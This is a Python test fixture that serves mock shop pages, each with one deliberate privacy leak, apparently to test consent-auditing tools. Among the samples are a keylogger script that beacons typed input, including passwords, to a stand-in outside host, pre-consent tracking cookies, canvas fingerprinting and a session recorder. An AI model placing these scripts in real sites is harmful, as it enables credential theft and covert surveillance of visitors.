"""The sites: one with a right banner, the same with one leak each, and one that keeps nothing.

All of them are on this machine. Other companies' hosts have the names that lists of trackers know;
the browsers of all tools take them for this machine (`tools.py`). A site has a register of its own:
what it tells its visitors, as its owner would have written it.
"""

from __future__ import annotations

import secrets
import ssl
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from pathlib import Path

from werkzeug.wrappers import Request, Response

from tests.fixtures.deployed_site import make_certificate
from tests.fixtures.odd_servers import always, answering

__all__ = ["CLEAN", "RIGHT", "SITES", "LeakingSite", "Served", "served"]

DAY, YEAR = 86_400, 31_536_000
ID = "Math.random().toString(36).slice(2)"
COUNTER, PIXEL, REPLAY, UNKNOWN = (
    "www.google-analytics.com",
    "stats.g.doubleclick.net",
    "static.hotjar.com",
    "files.widgets.example",
)
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"


@dataclass(frozen=True)
class LeakingSite:
    """A site. `page` stands on every page behind the banner; in it."""

    name: str
    page: str = ""
    asks: bool = True
    lifetime: int = 90 * DAY
    """Seconds for which the counter's cookie is kept; 90 days are declared."""
    buttons: str = "<button onclick=\"say('yes')\">Accept all</button> <button onclick=\"say('no')\">Reject all</button>"
    refused: str = 'document.cookie = "_ga=; path=/; max-age=0";'
    """What a no does besides."""
    numbered: bool = False
    """Whether the style sheet has an ETag of each visitor's own."""


@dataclass(frozen=True)
class Served:
    """A site that is served: its origin, and the port on which all other hosts are."""

    site: LeakingSite
    origin: str
    port: int

    def register(self) -> str:
        """What the site tells its visitors."""
        top = f'url = "{self.origin}"\nversion = 1\npages = ["/", "/about/", "/contact/"]\n'
        if not self.site.asks:
            return top
        return top + REGISTER.replace("%COUNTER", f"https://{COUNTER}")


REGISTER = """
[consent]
wait_seconds = 2

[[purpose]]
name = "the answer"
needs = "choice"

[[purpose]]
name = "analytics"
needs = "consent"

[[storage]]
where = "localStorage"
key = "answer"
purpose = "the answer"

[[cookie]]
name = "_ga"
path = "/"
lifetime = "90 days"
purpose = "analytics"

[[host]]
origin = "%COUNTER"
purpose = "analytics"
"""

BANNER = """
<style>#cookie-banner { position: fixed; inset: auto 0 0 0; background: #eee; padding: 1rem } #cookie-banner button {
  font: 1rem sans-serif; padding: .5rem 1rem; color: #000; background: #fff; border: 1px solid #000 }</style>
<div id="cookie-banner" class="cookie-banner" role="dialog" aria-label="Cookie consent" hidden><p>We would like to use
  cookies for one purpose, analytics: to count visits. Our third party partner Google keeps them for 90 days. You can withdraw your
  consent at any time. <a href="/about/">Privacy policy</a></p>%BUTTONS</div>
<footer><a href="/about/">Privacy policy</a>
  <button onclick="localStorage.removeItem('answer'); ask.hidden = false">Cookie settings</button></footer>
<script>
  const ask = document.getElementById("cookie-banner"), answer = localStorage.getItem("answer");
  const load = () => { document.head.append(Object.assign(document.createElement("script"),
    { src: "https://%COUNTER/analytics.js" })); };
  function say(what) {
    localStorage.setItem("answer", what); ask.hidden = true;
    if (what === "yes") load(); else { %REFUSED }
  }
  if (answer === "yes") load();
  ask.hidden = Boolean(answer);
</script>"""

PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>A shop</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<link rel="icon" href="data:,"><link rel="stylesheet" href="/main.css"></head><body>
<nav><a href="/">Home</a> <a href="/about/">About</a> <a href="/contact/">Contact</a></nav>
<h1>Teapots</h1><p>They hold tea, and little else.</p>
<form><label>Name <input name="name" type="text"></label> <label>Email <input name="email" type="email"></label>
<label>Password <input name="password" type="password"></label></form>
%BANNER%PAGE</body></html>"""

TAG = """if (!/(^|; )_ga=/.test(document.cookie))
  document.cookie = "_ga=GA1.1." + Math.floor(Math.random() * 1e9) + "; path=/; max-age=%LIFETIME";
fetch("https://%HOST/g/collect?v=2&tid=G-1", { method: "POST", mode: "no-cors", body: location.pathname });"""

RECORDER = """const seen = [];
for (const kind of ["mousemove", "scroll", "click", "touchmove"])
  addEventListener(kind, (event) => seen.push([kind, event.clientX, event.clientY]), { passive: true });
setInterval(() => { if (seen.length) navigator.sendBeacon("%TO", JSON.stringify(seen.splice(0))); }, 300);"""


def script(code: str) -> str:
    """It, in a page."""
    return f"<script>{code}</script>"


def set_cookie(name: str, seconds: int = 90 * DAY) -> str:
    """A script that gives a visitor a number, in a cookie."""
    return f'if (!document.cookie.includes("{name}=")) document.cookie = "{name}=" + {ID} + "; path=/; max-age={seconds}";'


def typed(to: str) -> str:
    """A script that sends what is typed, before anything is sent by who typed it."""
    return script(
        f'addEventListener("input", (event) => navigator.sendBeacon("{to}", event.target.value));'
    )


CLEAN = LeakingSite("It keeps nothing and asks nothing", asks=False)
RIGHT = LeakingSite("A right banner")
CANVAS = """const canvas = Object.assign(document.createElement("canvas"), { width: 300, height: 60 });
const pen = canvas.getContext("2d"); pen.font = "18px Arial"; pen.fillStyle = "#f60"; pen.fillRect(100, 1, 62, 20);
pen.fillStyle = "#069"; pen.fillText("Cwm fjordbank glyphs vext quiz", 2, 15); window.told = canvas.toDataURL().length;"""

SITES = (
    CLEAN,
    RIGHT,
    LeakingSite("A known cookie before consent", script(set_cookie("_ga"))),
    LeakingSite("A cookie by a new name before consent", script(set_cookie("visitor"))),
    LeakingSite("A cookie after a refusal", refused=set_cookie("_ga")),
    LeakingSite(
        "The cookie stays when the yes is withdrawn", refused="/* it is left where it is */"
    ),
    LeakingSite("A cookie that outlives what is declared", lifetime=YEAR),
    LeakingSite(
        "A cookie after a minute", script(f"setTimeout(() => {{ {set_cookie('later')} }}, 60000);")
    ),
    LeakingSite(
        "A known pixel before consent",
        f'<img src="https://{PIXEL}/r/collect?v=1&amp;t=dc&amp;cid=4711" width="1" height="1" alt="">',
    ),
    LeakingSite(
        "An unknown host before consent",
        f'<script async src="https://{UNKNOWN}/w.js"></script>',
    ),
    LeakingSite(
        "An identifier in localStorage",
        script(f'localStorage.setItem("uid", localStorage.getItem("uid") ?? {ID});'),
    ),
    LeakingSite(
        "A database in the browser",
        script(
            'indexedDB.open("ids", 1).onupgradeneeded = (event) => event.target.result.createObjectStore("id");'
        ),
    ),
    LeakingSite("An identifier in an ETag", numbered=True),
    LeakingSite("The reading of a canvas", script(CANVAS)),
    LeakingSite("Keystrokes, to another host", typed(f"https://{UNKNOWN}/k")),
    LeakingSite("Keystrokes, to the site itself", typed("/k")),
    LeakingSite(
        "A known session recorder",
        f'<script async src="https://{REPLAY}/c/hotjar-1.js"></script>',
    ),
    LeakingSite("A session recorder of the site's own", script(RECORDER.replace("%TO", "/r"))),
    LeakingSite(
        "Links with an identifier",
        script(
            f"const id = {ID}; for (const link of document.querySelectorAll('nav a'))"
            " link.addEventListener('mousedown', () => { link.href += '?_gl=' + id; });"
        ),
    ),
    LeakingSite(
        "A beacon when the page is left, after a refusal",
        script(
            'addEventListener("pagehide", () => { if (localStorage.getItem("answer") === "no")'
            f' navigator.sendBeacon("https://{COUNTER}/g/collect?v=2&gcs=G100"); }});'
        ),
    ),
    LeakingSite(
        "To reject is harder than to accept",
        buttons=(
            "<button onclick=\"say('yes')\">Accept all</button> "
            '<button onclick="more.hidden = false">Manage preferences</button> <span id="more" hidden>'
            '<label><input type="checkbox"> Analytics</label> <button onclick="say(\'no\')">Save preferences</button></span>'
        ),
    ),
)
"""The first two are clean. All others are the second with one leak."""


def page_of(site: LeakingSite) -> str:
    """One of its pages."""
    banner = BANNER if site.asks else ""
    made = PAGE.replace("%BANNER", banner).replace("%PAGE", site.page)
    made = made.replace("%BUTTONS", site.buttons).replace("%REFUSED", site.refused)
    return made.replace("%COUNTER", COUNTER)


def _own(site: LeakingSite, request: Request) -> Response:
    if request.path in ("/", "/about/", "/contact/"):
        return Response(page_of(site), mimetype="text/html")
    if request.path == "/main.css":
        style = Response("body { font-family: sans-serif }", mimetype="text/css")
        style.headers["Cache-Control"] = "no-cache"
        given = request.if_none_match.as_set()
        style.set_etag(next(iter(given), secrets.token_hex(8)) if site.numbered else "1")
        return style.make_conditional(request)
    return Response("", 204 if request.method == "POST" else 404)


def _others(site: LeakingSite, request: Request) -> Response:
    if request.path == "/analytics.js":
        tag = TAG.replace("%LIFETIME", str(site.lifetime)).replace("%HOST", request.host)
        return Response(tag, mimetype="text/javascript")
    if request.path.startswith("/c/"):
        told = RECORDER.replace("%TO", f"https://{request.host}/told")
        return Response(told, mimetype="text/javascript")
    if request.path.endswith(".js"):
        return Response("/* a shop window */", mimetype="text/javascript")
    if request.path == "/r/collect":
        return Response(GIF, mimetype="image/gif")
    return Response("", 204)


@contextmanager
def served(site: LeakingSite, certificate: Path) -> Iterator[Served]:
    """The site, and all others behind a certificate that is made in the folder."""
    if not (certificate / "fullchain.pem").exists():
        make_certificate(certificate)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate / "fullchain.pem", certificate / "privkey.pem")
    with ExitStack() as stack:
        others = stack.enter_context(
            answering(always(lambda request: _others(site, request)), context)
        )
        port = int(others.rpartition(":")[2])
        own = always(lambda request: _own(site, request))
        yield Served(site, stack.enter_context(answering(own)), port)
